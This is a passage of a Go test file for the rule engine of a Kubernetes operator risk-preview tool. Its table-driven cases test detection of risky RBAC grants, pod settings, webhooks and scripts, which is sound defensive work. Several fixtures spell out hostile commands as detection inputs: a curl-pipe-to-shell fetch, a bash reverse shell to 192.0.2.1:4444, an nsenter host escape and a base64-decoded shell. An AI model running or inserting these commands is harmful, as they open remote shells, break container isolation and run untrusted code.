package risk

import (
	"go/ast"
	"go/parser"
	"go/token"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/kubectl-operator/kubectl-operator/preview"
	"github.com/kubectl-operator/kubectl-operator/preview/rules"
)

// grantCases hold, for every rule about grants, a grant that meets it at the
// severity given and near misses that do not meet it. More grants of the same
// subject follow behind " & ".
var grantCases = []struct {
	rule     string
	severity preview.Severity
	meets    string
	misses   []string
}{
	{"rbac-everything", preview.Critical, "*|*|*", []string{"*|*|get", "|*|*", "*|pods|*", "*|*|*|x"}},
	{"rbac-group-wildcard", preview.Critical, "apps|*|*", []string{"apps|*|get", "apps|deployments|*"}},
	{"rbac-read-all-resources", preview.Critical, "|*|get", []string{"apps|*|get", "|pods|get"}},
	{"rbac-write-all-resources", preview.Critical, "*|*|get,patch", []string{"apps|*|patch", "*|*|list"}},
	{"rbac-all-verbs", preview.Warning, "|bindings|*", []string{"|bindings|get"}},
	{"rbac-all-urls", preview.Warning, "|/*|get", []string{"|//metrics|get"}},
	{"rbac-deletecollection", preview.Warning, "|bindings|deletecollection", []string{"|bindings|delete", "|bindings|*"}},
	{"rbac-secrets-read", preview.Critical, "|secrets|list", []string{"|secrets|create", "apps|secrets|get", "|secret|get"}},
	{"rbac-secrets-write", preview.Critical, "|secrets|patch,get", []string{"|secrets|get", "|secrets|create|named"}},
	{"rbac-pods-log", preview.Info, "|pods/log|get", []string{"|pods|get"}},
	{"rbac-tokens-create", preview.Critical, "|serviceaccounts/token|create", []string{"|serviceaccounts|create"}},
	{"rbac-serviceaccounts-write", preview.Warning, "|serviceaccounts|create", []string{"|serviceaccounts|get"}},
	{"rbac-configmaps-write", preview.Warning, "|configmaps|update", []string{"|configmaps|get"}},
	{"cloud-credentials-requested", preview.Warning, "cloudcredential.openshift.io|credentialsrequests|create", []string{"cloudcredential.openshift.io|credentialsrequests|get"}},
	{"rbac-cloud-iam-write", preview.Critical, "iam.services.k8s.aws|policies|create", []string{"iam.services.k8s.aws|policies|get", "s3.services.k8s.aws|buckets|create", "iam.services.k8s.aws|policies/status|update"}},
	{"rbac-secret-sources-write", preview.Warning, "external-secrets.io|externalsecrets|create", []string{"external-secrets.io|externalsecrets|get"}},
	{"rbac-workloads-write", preview.Critical, "apps|deployments|create", []string{"apps|deployments|get", "|pods|update", "extensions|foos|create"}},
	{"rbac-pods-modify", preview.Critical, "|pods|patch", []string{"|pods|get", "|pods|create,patch"}},
	{"rbac-pods-exec", preview.Critical, "|pods/exec|get", []string{"|pods/exec|delete", "|pods/*|create"}},
	{"rbac-ephemeral-containers", preview.Critical, "|pods/ephemeralcontainers|patch", []string{"|pods/ephemeralcontainers|get"}},
	{"rbac-ports", preview.Warning, "|services/proxy|get", []string{"|services|get"}},
	{"rbac-custom-exec", preview.Warning, "subresources.kubevirt.io|virtualmachineinstances/console|get", []string{"subresources.kubevirt.io|virtualmachineinstances/pause|update"}},
	{"rbac-pods-status", preview.Warning, "|services/status|patch", []string{"|services/status|get"}},
	{"rbac-volumes-write", preview.Warning, "|persistentvolumes|create", []string{"|persistentvolumes|get"}},
	{"rbac-storage-write", preview.Warning, "storage.k8s.io|storageclasses|create", []string{"storage.k8s.io|storageclasses|get"}},
	{"rbac-claims-write", preview.Warning, "|persistentvolumeclaims|delete", []string{"|persistentvolumeclaims|list"}},
	{"unseen-workloads", preview.Info, "batch|jobs|create", []string{"batch|jobs|update"}},
	{"rbac-escalate", preview.Critical, "rbac.authorization.k8s.io|clusterroles|escalate", []string{"rbac.authorization.k8s.io|clusterroles|create", "|clusterroles|escalate"}},
	{"rbac-bind", preview.Critical, "rbac.authorization.k8s.io|roles|bind", []string{"rbac.authorization.k8s.io|rolebindings|create", "rbac.authorization.k8s.io|roles|*"}},
	{"rbac-roles-write", preview.Warning, "rbac.authorization.k8s.io|roles|patch", []string{"rbac.authorization.k8s.io|roles|get"}},
	{"rbac-bindings-write", preview.Warning, "rbac.authorization.k8s.io|rolebindings|create", []string{"rbac.authorization.k8s.io|rolebindings|delete"}},
	{"rbac-impersonate", preview.Critical, "|users|impersonate", []string{"|users|get", "authentication.k8s.io|tokenreviews|impersonate"}},
	{
		"rbac-approve-certificates", preview.Critical,
		"certificates.k8s.io|signers|approve|kubernetes.io/kube-apiserver-client & certificates.k8s.io|certificatesigningrequests|create & certificates.k8s.io|certificatesigningrequests/approval|update",
		[]string{"certificates.k8s.io|signers|approve", "certificates.k8s.io|signers|approve|example.com/x & certificates.k8s.io|certificatesigningrequests|create & certificates.k8s.io|certificatesigningrequests/approval|update"},
	},
	{"rbac-sign-certificates", preview.Critical, "certificates.k8s.io|signers|sign", []string{"certificates.k8s.io|signers|approve", "certificates.k8s.io|certificatesigningrequests|update"}},
	{"rbac-trust-bundles", preview.Warning, "certificates.k8s.io|clustertrustbundles|create", []string{"certificates.k8s.io|clustertrustbundles|get"}},
	{"rbac-installers-write", preview.Critical, "olm.operatorframework.io|clusterextensions|create", []string{"olm.operatorframework.io|clusterextensions|get", "olm.operatorframework.io|clusterextensions/status|update"}},
	{"rbac-granters-write", preview.Critical, "capsule.clastix.io|tenants|create", []string{"capsule.clastix.io|tenants|get", "capsule.clastix.io|tenants/status|update"}},
	{"rbac-node-orders-write", preview.Critical, "upgrade.cattle.io|plans|patch", []string{"upgrade.cattle.io|plans|list", "upgrade.cattle.io|plans|create|a"}},
	{"rbac-mutators-write", preview.Critical, "kyverno.io|clusterpolicies|create", []string{"kyverno.io|clusterpolicies|get", "nvidia.com|clusterpolicies|get"}},
	{"rbac-policies-write", preview.Warning, "constraints.gatekeeper.sh|k8sallowedrepos|delete", []string{"constraints.gatekeeper.sh|k8sallowedrepos|get", "constraints.gatekeeper.sh|k8sallowedrepos/status|update"}},
	{"rbac-pod-makers-write", preview.Critical, "argoproj.io|workflows|create", []string{"argoproj.io|workflows|get", "argoproj.io|workflows/status|update", "argoproj.io|workflows|create|a"}},
	{"rbac-operands-write", preview.Warning, "postgresql.cnpg.io|clusters|create", []string{"postgresql.cnpg.io|clusters|get"}},
	{"rbac-exporters-write", preview.Warning, "velero.io|backups|delete", []string{"velero.io|backups|get"}},
	{"rbac-traffic-write", preview.Warning, "networking.istio.io|virtualservices|create", []string{"networking.istio.io|envoyfilters|get", "gateway.networking.k8s.io|httproutes|create"}},
	{"rbac-cloud-resources-write", preview.Warning, "s3.services.k8s.aws|buckets|create", []string{"s3.services.k8s.aws|buckets|get", "iam.services.k8s.aws|roles|create"}},
	{"rbac-disks-write", preview.Warning, "cdi.kubevirt.io|datavolumes|create", []string{"cdi.kubevirt.io|datavolumes|get"}},
	{"rbac-monitors-write", preview.Warning, "monitoring.coreos.com|servicemonitors|create", []string{"monitoring.coreos.com|servicemonitors|get"}},
	{"rbac-scalers-write", preview.Warning, "keda.sh|scaledobjects|create", []string{"keda.sh|scaledobjects|get"}},
	{"rbac-deleters-write", preview.Warning, "chaos-mesh.org|podchaos|create", []string{"chaos-mesh.org|podchaos|get"}},
	{"rbac-orders-delete", preview.Warning, "argoproj.io|applications|delete", []string{"argoproj.io|applications|get", "argoproj.io|applications|delete,create", "monitoring.coreos.com|servicemonitors|delete"}},
	{"rbac-custom-credentials-read", preview.Warning, "oauth.openshift.io|oauthaccesstokens|list", []string{"oauth.openshift.io|oauthaccesstokens|delete"}},
	{"rbac-reviews", preview.Info, "authentication.k8s.io|tokenreviews|create", []string{"authentication.k8s.io|tokenreviews|get"}},
	{"rbac-nodes-proxy", preview.Critical, "|nodes/proxy|get", []string{"|nodes|get", "|nodes/metrics|get"}},
	{"rbac-nodes-write", preview.Warning, "|nodes|patch", []string{"|nodes|list"}},
	{"rbac-evict", preview.Warning, "|pods/eviction|create", []string{"|pods|delete"}},
	{"rbac-nodes-read", preview.Info, "|nodes/metrics|get", []string{"|nodes|get"}},
	{"rbac-webhooks-write", preview.Critical, "admissionregistration.k8s.io|mutatingwebhookconfigurations|patch", []string{"admissionregistration.k8s.io|mutatingwebhookconfigurations|get"}},
	{"rbac-webhooks-delete", preview.Warning, "admissionregistration.k8s.io|validatingwebhookconfigurations|delete", []string{"admissionregistration.k8s.io|validatingwebhookconfigurations|delete,create"}},
	{"rbac-admission-policies", preview.Critical, "admissionregistration.k8s.io|mutatingadmissionpolicies|create", []string{"admissionregistration.k8s.io|mutatingadmissionpolicies|list"}},
	{"rbac-crds-write", preview.Warning, "apiextensions.k8s.io|customresourcedefinitions|create", []string{"apiextensions.k8s.io|customresourcedefinitions|get"}},
	{"rbac-crds-delete", preview.Critical, "apiextensions.k8s.io|customresourcedefinitions|delete", []string{"apiextensions.k8s.io|customresourcedefinitions|create"}},
	{"rbac-apiservices-write", preview.Critical, "apiregistration.k8s.io|apiservices|update", []string{"apiregistration.k8s.io|apiservices|get"}},
	{"rbac-priorities-write", preview.Warning, "scheduling.k8s.io|priorityclasses|create", []string{"scheduling.k8s.io|priorityclasses|get"}},
	{"rbac-scc", preview.Warning, "security.openshift.io|securitycontextconstraints|use|privileged", []string{"security.openshift.io|securitycontextconstraints|use|restricted-v2,nonroot", "security.openshift.io|securitycontextconstraints|get"}},
	{"rbac-namespaces-change", preview.Warning, "|namespaces|patch", []string{"|namespaces|list"}},
	{"rbac-namespaces-delete", preview.Critical, "|namespaces|delete", []string{"|namespaces|get"}},
	{"rbac-namespaces-create", preview.Info, "|namespaces|create", []string{"|namespaces|get"}},
	{"rbac-endpoints-write", preview.Critical, "discovery.k8s.io|endpointslices|create", []string{"|endpoints|get"}},
	{"rbac-services-write", preview.Warning, "|services|create", []string{"|services|delete"}},
	{"rbac-ingress-write", preview.Warning, "networking.k8s.io|ingresses|create", []string{"networking.k8s.io|ingresses|get"}},
	{"rbac-network-policies-write", preview.Warning, "networking.k8s.io|networkpolicies|delete", []string{"networking.k8s.io|networkpolicies|get"}},
	{"rbac-quotas-write", preview.Warning, "|resourcequotas|delete", []string{"|resourcequotas|get"}},
	{"rbac-events-write", preview.Info, "|events|create", []string{"|events|list"}},
	{"rbac-leases-system", preview.Warning, "coordination.k8s.io|leases|update", []string{"coordination.k8s.io|leases|get"}},
	{"rbac-delete", preview.Warning, "|secrets|delete", []string{"|secrets|get", "|secrets|delete,create"}},
	{"rbac-scale", preview.Warning, "apps|deployments/scale|patch", []string{"apps|deployments/scale|get", "apps|deployments|patch"}},
	{"rbac-disruption", preview.Warning, "policy|poddisruptionbudgets|create", []string{"policy|poddisruptionbudgets|get"}},
	{"rbac-pods-bind", preview.Warning, "|pods/binding|create", []string{"|pods|create"}},
	{"rbac-pods-resize", preview.Warning, "|pods/resize|patch", []string{"|pods/resize|get"}},
	{"rbac-revisions-write", preview.Warning, "apps|controllerrevisions|update", []string{"apps|controllerrevisions|list"}},
	{"rbac-devices-write", preview.Warning, "resource.k8s.io|deviceclasses|create", []string{"resource.k8s.io|deviceclasses|list"}},
	{"rbac-addresses-write", preview.Warning, "networking.k8s.io|servicecidrs|create", []string{"networking.k8s.io|servicecidrs|get"}},
	{"rbac-storage-versions", preview.Info, "storagemigration.k8s.io|storageversionmigrations|create", []string{"storagemigration.k8s.io|storageversionmigrations|get"}},
	{"rbac-certificates-approve", preview.Warning, "certificates.k8s.io|signers|approve", []string{"certificates.k8s.io|signers|sign"}},
	{"rbac-nodes-checkpoint", preview.Warning, "|nodes/checkpoint|create", []string{"|nodes|create"}},
	{"rbac-scheduling-write", preview.Warning, "scheduling.k8s.io|podgroups|create", []string{"scheduling.k8s.io|podgroups|get"}},
	{"rbac-status-write", preview.Warning, "networking.k8s.io|ingresses/status|update", []string{"networking.k8s.io|ingresses/status|get"}},
	{"rbac-impersonate-on", preview.Warning, "|secrets|impersonate-on:user-info:list", []string{"|secrets|impersonate"}},
	{"rbac-token-audiences", preview.Warning, "certificates.k8s.io|example.com:signer|request-serviceaccounts-podcertificate-signer", []string{"|example.com:signer|request-serviceaccounts-podcertificate-signer"}},
	{"rbac-token-audiences", preview.Warning, "|vault.example.com|request-serviceaccounts-token-audience", []string{"|serviceaccounts|get", "apps|vault|request-serviceaccounts-token-audience"}},
	{"rbac-attested-tokens", preview.Warning, "authentication.k8s.io|admissionReviewAPIGroups|attest", []string{"certificates.k8s.io|signers|attest"}},
	{"rbac-unsafe-delete", preview.Warning, "|secrets|unsafe-delete-ignore-read-errors,delete", []string{"|secrets/status|unsafe-delete-ignore-read-errors", "|configmaps|*"}},
	{"rbac-urls", preview.Warning, "|//lo*|get", []string{"|//metrics|get", "|/*|get"}},
	{"rbac-not-judged", preview.NotKnown, "|secrets|frobnicate", []string{"|secrets|get"}},
}

func TestGrantRules(t *testing.T) {
	for _, test := range grantCases {
		t.Run(test.rule+" is met", func(t *testing.T) {
			p := grantsPlan(strings.Split(test.meets, " & ")...)
			findings := evaluate(t, Input{Plan: p})
			f := find(findings, test.rule)
			if f == nil {
				t.Fatalf("%s does not meet it; found %v", test.meets, ids(findings))
			}
			if f.Severity != test.severity {
				t.Errorf("severity %s, want %s", f.Severity, test.severity)
			}
			if f.ID != test.rule+"/rbac.authorization.k8s.io/ClusterRole/-/r" || !strings.Contains(f.Evidence, "ServiceAccount app/op cluster-wide") {
				t.Errorf("id %s, evidence %s", f.ID, f.Evidence)
			}
			if !contains(p.Access.Grants[0].Rules, test.rule) {
				t.Errorf("the grant is not marked: %v", p.Access.Grants[0].Rules)
			}
		})
		for _, miss := range test.misses {
			t.Run(test.rule+" is missed by "+miss, func(t *testing.T) {
				if f := find(evaluate(t, Input{Plan: grantsPlan(strings.Split(miss, " & ")...)}), test.rule); f != nil {
					t.Errorf("found with evidence %s", f.Evidence)
				}
			})
		}
	}
}

// climb has account op with one right in a namespace, and beside it one that may
// do everything.
func climb(resource, verb, namespace string) string {
	return "{apiVersion: v1, kind: ServiceAccount, metadata: {name: op, namespace: app}}\n" +
		"---\n{apiVersion: rbac.authorization.k8s.io/v1, kind: Role, metadata: {name: r, namespace: " + namespace + "}, rules: [{apiGroups: [''], resources: [" + resource + "], verbs: [" + verb + "]}]}\n" +
		"---\n{apiVersion: rbac.authorization.k8s.io/v1, kind: RoleBinding, metadata: {name: b, namespace: " + namespace + "}, roleRef: {kind: Role, name: r}, subjects: [{kind: ServiceAccount, name: op, namespace: app}]}\n" +
		"---\n{apiVersion: v1, kind: ServiceAccount, metadata: {name: admin, namespace: app}}\n" +
		"---\n{apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRoleBinding, metadata: {name: a}, roleRef: {kind: ClusterRole, name: cluster-admin}, subjects: [{kind: ServiceAccount, name: admin, namespace: app}]}\n"
}

// objectCases are the same for rules about objects and cloud permissions.
var objectCases = []struct {
	rule     string
	severity preview.Severity
	meets    string
	misses   []string
}{
	{"field-not-judged", preview.Info, pod("hostEverything: true, ", "image: c"), []string{pod("hostUsers: false, ", "image: c")}},
	{"pod-foreign-secret", preview.Critical, strings.Replace(pod("volumes: [{name: v, secret: {secretName: keys, optional: true}}], ", "image: c"), "namespace: app", "namespace: kube-system", 1), []string{
		pod("volumes: [{name: v, secret: {secretName: keys}}], ", "image: c"),
		strings.Replace(pod("volumes: [{name: v, secret: {secretName: keys}}], ", "image: c"), "namespace: app", "namespace: shop", 1) + "---\n{apiVersion: v1, kind: Secret, metadata: {name: keys, namespace: shop}}\n",
	}},
	{"admission-outage", preview.Critical, webhook("Validating", "clientConfig: {service: {namespace: app, name: s}}, rules: [{apiGroups: ['*'], apiVersions: ['*'], operations: ['*'], resources: ['*/*']}]"), []string{
		webhook("Validating", "clientConfig: {service: {namespace: app, name: s}}, rules: [{apiGroups: ['*'], apiVersions: ['*'], operations: ['*'], resources: ['*/*']}], failurePolicy: Ignore"),
	}},
	{"binding-cluster-admin", preview.Critical, toRole("cluster-admin", "{kind: User, name: u}"), []string{toRole("view", "{kind: User, name: u}")}},
	{"binding-admin", preview.Critical, toRole("edit", "{kind: User, name: u}"), []string{toRole("view", "{kind: User, name: u}")}},
	{"binding-masters", preview.Critical, toRole("x", "{kind: Group, name: 'system:masters'}"), []string{toRole("x", "{kind: User, name: 'system:masters'}")}},
	{"binding-anonymous", preview.Critical, toRole("x", "{kind: Group, name: 'system:unauthenticated'}"), []string{toRole("system:public-info-viewer", "{kind: Group, name: 'system:unauthenticated'}")}},
	{"binding-authenticated", preview.Critical, toRole("x", "{kind: Group, name: 'system:authenticated'}"), []string{toRole("x", "{kind: Group, name: 'system:serviceaccounts:app'}")}},
	{"binding-namespace-group", preview.Warning, toRole("x", "{kind: Group, name: 'system:serviceaccounts:app'}"), []string{toRole("x", "{kind: Group, name: devs}")}},
	{"binding-default-account", preview.Warning, toRole("x", "{kind: ServiceAccount, name: default, namespace: app}"), []string{toRole("x", "{kind: User, name: default}")}},
	{
		"binding-foreign-account", preview.Warning, toRole("x", "{kind: ServiceAccount, name: op, namespace: other}"),
		[]string{toRole("x", "{kind: ServiceAccount, name: op, namespace: app}") + "---\napiVersion: v1\nkind: ServiceAccount\nmetadata: {name: op, namespace: app}\n"},
	},
	{
		"binding-unknown-role", preview.Warning, toRole("x", "{kind: User, name: u}"),
		[]string{toRole("system:auth-delegator", "{kind: User, name: u}"), toRole("r", "{kind: User, name: u}") + "---\n" + roleHead + "}\n"},
	},
	{
		"aggregated-role", preview.Info, roleHead + ", labels: {rbac.authorization.k8s.io/aggregate-to-edit: 'true'}}\nrules: [{apiGroups: [x], resources: [ys], verbs: [get]}]\n",
		[]string{roleHead + ", labels: {rbac.authorization.k8s.io/aggregate-to-edit: 'false'}}\nrules: [{apiGroups: [x], resources: [ys], verbs: [get]}]\n"},
	},
	{
		"aggregated-view", preview.Warning, roleHead + ", labels: {rbac.authorization.k8s.io/aggregate-to-view: 'true'}}\nrules: [{apiGroups: [''], resources: [secrets], verbs: [get]}]\n",
		[]string{roleHead + ", labels: {rbac.authorization.k8s.io/aggregate-to-view: 'true'}}\nrules: [{apiGroups: [x], resources: [ys], verbs: [get]}]\n"},
	},
	{
		"aggregation-open", preview.Warning, roleHead + "}\naggregationRule: {clusterRoleSelectors: [{}]}\n",
		[]string{roleHead + "}\naggregationRule: {clusterRoleSelectors: [{matchLabels: {a: b}}]}\n"},
	},
	{"access-reach", preview.Warning, climb("pods", "create", "app"), []string{climb("pods", "get", "app"), climb("pods", "create", "other")}},
	{"pod-privileged", preview.Critical, pod("", "securityContext: {privileged: true}"), []string{pod("", "securityContext: {privileged: false}")}},
	{"pod-host-path", preview.Critical, pod("volumes: [{name: v, hostPath: {path: /var/lib/kubelet/pods}}], ", "volumeMounts: [{name: v}]"), []string{pod("volumes: [{name: v, emptyDir: {}}], ", "x: y")}},
	{"pod-host-processes", preview.Warning, pod("hostPID: true, ", "x: y"), []string{pod("hostPID: false, ", "x: y")}},
	{"pod-host-network", preview.Warning, pod("hostNetwork: true, ", "x: y"), []string{pod("", "x: y")}},
	{"pod-host-port", preview.Warning, pod("", "ports: [{hostPort: 80}]"), []string{pod("", "ports: [{containerPort: 80}]"), pod("hostNetwork: true, ", "ports: [{hostPort: 80}]")}},
	{"pod-capabilities", preview.Critical, pod("", "securityContext: {capabilities: {add: [CAP_SYS_ADMIN]}}"), []string{pod("", "securityContext: {capabilities: {add: [NET_BIND_SERVICE]}}")}},
	{"pod-keeps-capabilities", preview.Info, pod("", "x: y"), []string{pod("", "securityContext: {capabilities: {drop: [all]}}")}},
	{"pod-root", preview.Warning, pod("", "securityContext: {runAsNonRoot: true, runAsUser: 0}"), []string{pod("securityContext: {runAsNonRoot: true}, ", "x: y")}},
	{"pod-privilege-escalation", preview.Info, pod("", "x: y"), []string{pod("", "securityContext: {allowPrivilegeEscalation: false}")}},
	{"pod-unconfined", preview.Warning, pod("", "securityContext: {seccompProfile: {type: Unconfined}}"), []string{pod("", "securityContext: {seLinuxOptions: {type: container_t}}")}},
	{"pod-no-seccomp", preview.Info, pod("", "x: y"), []string{pod("securityContext: {seccompProfile: {type: RuntimeDefault}}, ", "x: y")}},
	{"pod-volume-program", preview.Warning, synced("command: [/code/run.sh]", "--ref=main"), []string{synced("command: [/app/run]", "--ref=main"), synced("command: [/code/run.sh]", "--ref="+strings.Repeat("a1", 20))}},
	{"pod-open-server", preview.Critical, served("LoadBalancer", "args: ['--ServerApp.token=']"), []string{served("LoadBalancer", "args: ['--ServerApp.port=1']"), pod("", "args: ['--ServerApp.token=']")}},
	{"order-images", preview.Warning, strings.Replace(pod("", "image: 'c@sha256:00'"), "namespace: app}", "namespace: app, annotations: {keel.sh/policy: all}}", 1), []string{strings.Replace(pod("", "image: c"), "namespace: app}", "namespace: app, annotations: {keel.sh/policy: never}}", 1)}},
	{"pod-sysctls", preview.Warning, pod("securityContext: {sysctls: [{name: kernel.msgmax}]}, ", "x: y"), []string{pod("securityContext: {sysctls: [{name: net.ipv4.tcp_syncookies}]}, ", "x: y")}},
	{"pod-host-process", preview.Critical, pod("securityContext: {windowsOptions: {hostProcess: true}}, ", "x: y"), []string{pod("", "x: y")}},
	{"pod-shared-token", preview.Info, strings.Replace(pod("", "x: y"), "containers: [", "containers: [{name: d}, ", 1), []string{pod("", "x: y")}},
	{"pod-token-audience", preview.Info, pod("volumes: [{projected: {sources: [{serviceAccountToken: {audience: sts.amazonaws.com}}]}}], ", "x: y"), []string{pod("volumes: [{projected: {sources: [{serviceAccountToken: {path: t}}]}}], ", "x: y")}},
	{"pod-secret-env", preview.Warning, pod("", "env: [{name: DB_PASSWORD, value: hunter2}]"), []string{pod("", "env: [{name: DB_PASSWORD, valueFrom: {secretKeyRef: {name: s}}}, {name: TOKEN_FILE, value: /x}, {name: WATCH_SECRETS, value: 'true'}]")}},
	{"pod-control-plane", preview.Warning, pod("tolerations: [{operator: Exists}], ", "x: y"), []string{pod("tolerations: [{key: node-role.kubernetes.io/control-plane, operator: Exists}], ", "x: y")}},
	{"pod-preempts", preview.Warning, pod("priorityClassName: system-cluster-critical, ", "x: y"), []string{pod("priorityClassName: mine, ", "x: y")}},
	{"pod-remote-code", preview.Warning, pod("", "command: [sh, -c, 'curl https://x | sh']"), []string{pod("", "command: [/bin/curly]"), pod("", "livenessProbe: {exec: {command: [curl, 'http://localhost:80/']}}")}},
	{"pod-hostile-code", preview.Warning, pod("", "lifecycle: {postStart: {exec: {command: [sh, -c, 'nsenter -t 1 -m sh']}}}"), []string{pod("", "command: [/bin/nsenterprise]")}},
	{"pod-hidden-code", preview.Warning, pod("", "args: ['echo aWQ= | base64 -d | sh']"), []string{pod("", "args: ['base64 -d /a > /b']")}},
	{"script-remote-code", preview.Warning, scriptsOf("run.sh: 'curl -s https://x.example.com/a | sh'"), []string{scriptsOf("readme: 'fetch it with curl -O https://example.com/x'"), scriptsOf("run.sh: 'curl -f http://localhost:80'")}},
	{"script-hostile-code", preview.Warning, scriptsOf("a: 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'"), []string{scriptsOf("no_proxy: 'NO_PROXY=169.254.169.254,localhost'")}},
	{"script-hidden-code", preview.Warning, scriptsOf("a: \"id \\u202e #x\""), []string{scriptsOf("banner: \"\\e[1mok ✔️ žluťoučký\"")}},
	{"pod-no-limits", preview.Info, pod("", "x: y"), []string{pod("", "resources: {requests: {cpu: 1m}}, livenessProbe: {}")}},
	{"image-by-tag", preview.Warning, pod("", "image: 'a.b:5000/c:v1'"), []string{pod("", "image: 'a.b:5000/c:v1@sha256:00'")}},
	{"image-pull-always", preview.Info, pod("", "image: 'c:v1', imagePullPolicy: Always"), []string{pod("", "image: 'c@sha256:00', imagePullPolicy: Always")}},
	{"image-variable-by-tag", preview.Warning, pod("", "env: [{name: RELATED_IMAGE_X, value: 'c:v1'}]"), []string{pod("", "env: [{name: RELATED_IMAGE_X, value: 'c@sha256:00'}]")}},
	{
		"webhook-fail-closed-cluster-wide", preview.Warning, webhook("Validating", "rules: [{apiGroups: [''], resources: [pods]}], failurePolicy: Fail"),
		[]string{webhook("Validating", "rules: [{apiGroups: [''], resources: [pods]}], failurePolicy: Ignore"), webhook("Validating", "rules: [{apiGroups: [x.io], resources: [ys]}], namespaceSelector: {matchLabels: {a: b}}")},
	},
	{
		"webhook-blocks-itself", preview.Warning, webhook("Validating", "clientConfig: {service: {name: s, namespace: app}}, rules: [{apiGroups: [''], resources: [pods], operations: [CREATE]}]"),
		[]string{
			webhook("Validating", "clientConfig: {service: {name: s, namespace: app}}, rules: [{apiGroups: [''], resources: [pods], operations: [CREATE]}], failurePolicy: Ignore"),
			webhook("Validating", "clientConfig: {service: {name: s, namespace: app}}, rules: [{apiGroups: [''], resources: [pods], operations: [UPDATE, CONNECT]}]"),
			webhook("Validating", "clientConfig: {service: {name: s, namespace: app}}, rules: [{apiGroups: [''], resources: [nodes]}]"),
			webhook("Validating", "clientConfig: {service: {name: s, namespace: app}}, rules: [{apiGroups: ['*'], resources: ['*']}], namespaceSelector: {matchExpressions: [{key: kubernetes.io/metadata.name, operator: NotIn, values: [app]}]}"),
			webhook("Validating", "clientConfig: {url: 'https://x'}, rules: [{apiGroups: ['*'], resources: ['*']}]"),
			webhook("Validating", "clientConfig: {service: {name: s, namespace: app}}, rules: [{apiGroups: ['*'], resources: ['*']}], objectSelector: {matchLabels: {checked: 'yes'}}") +
				"---\napiVersion: v1\nkind: Service\nmetadata: {name: s, namespace: app}\nspec: {selector: {app: hook}}\n---\n" +
				strings.Replace(pod("", "x: y"), "template: {", "template: {metadata: {labels: {app: hook}}, ", 1),
		},
	},
	{
		"well-known-object", preview.Critical, configMap("kube-system", "coredns", ""),
		[]string{configMap("app", "coredns", ""), configMap("app", "ingress-nginx-controller", ""), configMap("kube-system", "other", "")},
	},
	{
		"secret-bootstrap-token", preview.Critical, secretOf("kube-system", "bootstrap-token-abcdef", "bootstrap.kubernetes.io/token", "stringData: {usage-bootstrap-authentication: 'true'}"),
		[]string{secretOf("app", "bootstrap-token-abcdef", "bootstrap.kubernetes.io/token", "stringData: {usage-bootstrap-authentication: 'true'}")},
	},
	{
		"secret-of-tool", preview.Critical, secretOf("app", "sh.helm.release.v1.web.v1", "helm.sh/release.v1", "data: {release: eA==}"),
		[]string{secretOf("app", "web", "Opaque", "data: {release: eA==}")},
	},
	{
		"secret-in-package", preview.Info, secretOf("app", "pull", "kubernetes.io/dockerconfigjson", "data: {.dockerconfigjson: e30=}"),
		[]string{secretOf("app", "pull", "kubernetes.io/dockerconfigjson", "data: {}"), secretOf("app", "pull", "Opaque", "data: {a: eA==}")},
	},
	{
		"crd-in-built-in-group", preview.Warning, crdOf("apps", "things"), []string{crdOf("x.io", "ys"), crdOf("cluster.x-k8s.io", "machines")},
	},
	{
		"crd-of-others", preview.Critical, crdOf("cert-manager.io", "certificates"),
		[]string{crdOf("x.io", "ys"), crdOf("cert-manager.io", "certificates") + "---\n" + holding("app", "op", "", "cert-manager.io|certificates/status|patch")},
	},
	{
		"crd-converted-elsewhere", preview.Warning, converted("other"), []string{converted("app")},
	},
	{
		"crd-of-others-converted", preview.Critical, convertedKind("argoproj.io", "applications", "Application") + "---\napiVersion: v1\nkind: Service\nmetadata: {name: s, namespace: app}\n",
		[]string{convertedKind("example.com", "things", "Thing") + "---\napiVersion: v1\nkind: Service\nmetadata: {name: s, namespace: app}\n"},
	},
	{
		"role-redefined", preview.Critical, strings.Replace(roleHead, "name: r", "name: view", 1) + "}\nrules: [{apiGroups: [''], resources: [secrets], verbs: [list]}]\n",
		[]string{roleHead + "}\nrules: [{apiGroups: [''], resources: [secrets], verbs: [list]}]\n"},
	},
	{
		"binding-redefined", preview.Warning, strings.Replace(toRole("system:node-proxier", "{kind: User, name: alice}"), "{name: b}", "{name: 'system:node-proxier'}", 1),
		[]string{strings.Replace(toRole("system:node-proxier", "{kind: User, name: 'system:kube-proxy'}"), "{name: b}", "{name: 'system:node-proxier'}", 1)},
	},
	{
		"binding-outside", preview.Warning, toRole("view", "{kind: User, name: alice}"),
		[]string{toRole("view", "{kind: ServiceAccount, name: op, namespace: app}"), toRole("view", "{kind: User, name: 'system:serviceaccount:app:op'}"), toRole("view", "{kind: Group, name: 'system:serviceaccounts:app'}")},
	},
	{
		"aggregated-elsewhere", preview.Critical, roleHead + ", labels: {rbac.authorization.k8s.io/aggregate-to-cluster-reader: 'true'}}\nrules: [{apiGroups: [''], resources: [secrets], verbs: [get]}]\n",
		[]string{roleHead + ", labels: {rbac.authorization.k8s.io/aggregate-to-cluster-reader: 'true'}}\nrules: [{apiGroups: [x], resources: [ys], verbs: [get]}]\n"},
	},
	{
		"security-constraints", preview.Warning, "apiVersion: security.openshift.io/v1\nkind: SecurityContextConstraints\nmetadata: {name: x}\nallowPrivilegedContainer: true\nusers: ['system:serviceaccount:app:op']\n",
		[]string{"apiVersion: security.openshift.io/v1\nkind: SecurityContextConstraints\nmetadata: {name: x}\nallowPrivilegedContainer: false\nusers: ['system:serviceaccount:app:op']\n"},
	},
	{
		"webhook-sees-secrets", preview.Critical, webhook("Validating", "rules: [{apiGroups: [''], resources: [secrets]}], failurePolicy: Ignore"),
		[]string{webhook("Validating", "rules: [{apiGroups: [''], resources: [pods]}]"), webhook("Validating", "rules: [{apiGroups: [x.io], resources: [secrets]}]"), webhook("Validating", "rules: [{apiGroups: [''], resources: ['secrets'], scope: Cluster}]")},
	},
	{
		"webhook-changes-objects", preview.Critical, webhook("Mutating", "rules: [{apiGroups: [rbac.authorization.k8s.io], resources: ['*']}], failurePolicy: Ignore"),
		[]string{webhook("Validating", "rules: [{apiGroups: [rbac.authorization.k8s.io], resources: ['*']}]"), webhook("Mutating", "rules: [{apiGroups: [x.io], resources: [ys]}]") + "---\n" + crdOf("x.io", "ys")},
	},
	{
		"admission-binding", preview.Warning, bindingOf("Mutating", "policyName: other"),
		[]string{bindingOf("Mutating", "policyName: p") + "---\n" + policyOf("Mutating", "[x.io]", "[ys]") + "---\n" + crdOf("x.io", "ys")},
	},
	{
